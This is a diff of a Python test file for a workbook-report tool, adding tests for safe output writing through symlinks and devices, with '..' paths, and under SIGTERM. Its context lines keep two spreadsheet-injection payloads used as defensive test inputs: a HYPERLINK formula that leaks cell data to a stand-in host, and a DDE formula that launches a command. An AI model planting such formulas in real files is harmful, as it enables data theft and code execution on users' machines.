@@ -6,6 +6,9 @@ import csv
 import io
 import json
 import os
+import signal
+import stat
+import subprocess
 import sys
 import zipfile
 
@@ -14,7 +17,7 @@ import pytest
 
 from cxscore import Options, score
 from cxscore.report import excel
-from conftest import invoke, run_process
+from conftest import SAMPLE, invoke, run_process
 
 HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -160,3 +163,56 @@ def test_the_workbook_writer_does_not_rescan_the_sheet_per_row(write_csv, monkey
     workbook = excel.build(report)
     assert workbook["Segments"].max_row == 601
     assert len(calls) <= 12  # a few per sheet, none per row (600 segments)
+
+
+# --- output files --------------------------------------------------------------------------------
+
+SAMPLE_ARGS = ["report", str(SAMPLE), "-q", "-o"]
+
+
+@pytest.mark.skipif(os.name != "posix", reason="symbolic links and permissions")
+def test_an_output_that_is_a_link_is_written_through_and_the_link_stays(tmp_path):
+    real = tmp_path / "reports" / "2025.xlsx"
+    real.parent.mkdir()
+    real.write_bytes(b"old")
+    real.chmod(0o640)
+    link = tmp_path / "latest.xlsx"
+    link.symlink_to(real)
+    assert invoke(SAMPLE_ARGS + [str(link)]).exit_code == 0
+    assert link.is_symlink() and os.readlink(link) == str(real)
+    assert openpyxl.load_workbook(real).sheetnames[0] == "Summary"
+    assert stat.S_IMODE(real.stat().st_mode) == 0o640
+    assert sorted(p.name for p in real.parent.iterdir()) == ["2025.xlsx"]  # no temporary file left
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
+def test_an_output_link_to_a_device_is_refused(tmp_path):
+    link = tmp_path / "r.xlsx"
+    link.symlink_to("/dev/full")
+    result = invoke(SAMPLE_ARGS + [str(link)])
+    assert result.exit_code == 2 and "not a regular file (the link leads to /dev/full)" in result.stderr
+    assert link.is_symlink() and list(tmp_path.iterdir()) == [link]
+
+
+def test_dot_dot_in_the_output_path_creates_no_stray_folder(tmp_path):
+    (tmp_path / "a" / "b").mkdir(parents=True)
+    result = invoke(SAMPLE_ARGS + [f"{tmp_path}/a/b/../{{date}}/../../x.xlsx"])
+    assert result.exit_code == 0, result.stderr
+    assert (tmp_path / "x.xlsx").is_file()
+    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["b"]
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
+def test_sigterm_while_saving_leaves_no_temporary_file(tmp_path):
+    script = (
+        "import os, signal, sys, time\n"
+        "from pathlib import Path\n"
+        "from cxscore.report.output import atomic_path\n"
+        "with atomic_path(Path(sys.argv[1])) as temporary:\n"
+        "    temporary.write_bytes(b'half a workbook')\n"
+        "    os.kill(os.getpid(), signal.SIGTERM)\n"
+        "    time.sleep(5)\n"
+    )
+    done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "r.xlsx")], capture_output=True, timeout=60)
+    assert done.returncode == -signal.SIGTERM  # still ends by the signal, as before
+    assert list(tmp_path.iterdir()) == []
